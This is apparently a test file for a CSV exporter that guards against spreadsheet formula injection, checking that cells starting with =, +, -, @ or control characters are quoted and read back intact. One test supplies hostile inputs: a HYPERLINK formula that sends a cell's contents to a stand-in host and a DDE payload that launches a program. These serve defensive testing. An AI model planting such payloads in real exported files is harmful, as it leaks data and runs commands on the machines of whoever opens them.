// What is written as CSV is read back as it was by a reader that shares no code with it, and a spreadsheet finds no formula in it.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvOf } from '../../../scripts/core/evidence/csv.ts';
import { populationsOf } from '../../../scripts/core/evidence/population.ts';
import { readCsv } from '../../fixtures/csv.ts';
import { sketch } from './sketches.ts';
import { quarter, told } from './world.ts';

const FORMULA = /^[\p{Z}"]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/u;

const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '"', "'", ' ', 'a', 'é', '\uff1d', '\u2028', '😀'];

describe('a population as CSV', () => {
  it.each<[why: string, cell: string, written: string]>([
    ['plain words', 'Lena Brandt', 'Lena Brandt'],
    ['nothing', '', ''],
    ['a comma', 'a,b', '"a,b"'],
    ['a quote', 'a "b"', '"a ""b"""'],
    ['lines', 'a\r\nb', '"a\r\nb"'],
    ['a list', 'a; b', '"a; b"'],
    ['a formula', '=1+1', "'=1+1"],
    ['a plus', '+49 30', "'+49 30"],
    ['a minus', '-1', "'-1"],
    ['a mention', '@SUM(A1)', "'@SUM(A1)"],
    ['a tab', '\t=1', "'\t'=1"],
    ['a carriage return', '\r=1', '"\'\r\'=1"'],
    ['a line feed', '\n=1', '"\'\n\'=1"'],
    ['a wide sign', '\uff1d1+1', "'\uff1d1+1"],
    ['a space before it', ' =1', " '=1"],
    ['a formula behind a semicolon', 'x; =1;-2', '"x; \'=1;\'-2"'],
    ['one with quotes before it', 'x;"=1"', '"x;""\'=1"""'],
    ['a sign in the middle', 'a-b=c', 'a-b=c'],
    ['a quote that was there', "'=1", "'=1"],
  ])('writes %s', (_why, cell, written) => {
    expect(csvOf({ columns: ['head'], rows: [[cell]] })).toBe(`head\r\n${written}\r\n`);
  });

  it('is its header where it has no rows', () => {
    expect(csvOf({ columns: ['id', 'at'], rows: [] })).toBe('id,at\r\n');
  });

  it('reads back as it was, but for the quotes before formulas, and no cell begins like one', () => {
    const hostile = fc.string({ unit: fc.constantFrom(...SIGNS) });
    const table = fc.integer({ min: 1, max: 4 }).chain((width) => {
      const row = fc.array(fc.oneof(hostile, fc.string()), { minLength: width, maxLength: width });
      return fc.record({ columns: row, rows: fc.array(row, { maxLength: 5 }) });
    });
    fc.assert(
      fc.property(table, ({ columns, rows }) => {
        const text = csvOf({ columns, rows });
        const read = readCsv(text);
        const bare = (cells: readonly (readonly string[])[]) =>
          cells.map((row) => row.map((cell) => cell.replaceAll("'", '')));
        expect(bare(read)).toEqual(bare([columns, ...rows]));
        for (const cell of read.flat()) expect(cell).not.toMatch(FORMULA);
        // As a spreadsheet reads it whose lists are separated by semicolons, in any language.
        for (const part of text.split(/[;\r\n]/)) expect(part).not.toMatch(/^[ "]*[=+\-@]/);
      }),
      { numRuns: 500 },
    );
  });

  it('shows what a hostile request says, and runs none of it', () => {
    const reason = '=HYPERLINK("https://evil.example?x="&A1,"Approved");=cmd|\' /C calc\'!A0';
    const opener = { id: 9, login: '@SUM(1+1)', type: 'User' };
    const ledger = told(
      sketch('action-proposed', { opener, technician: '+tess' }),
      sketch('action-denied', { reason }),
    );
    for (const population of populationsOf(ledger, quarter('2026-q4'))) {
      const [head, ...rows] = readCsv(csvOf(population));
      expect(head).toEqual(population.columns);
      expect(rows.length).toBe(population.rows.length);
      for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA);
    }
  });
});
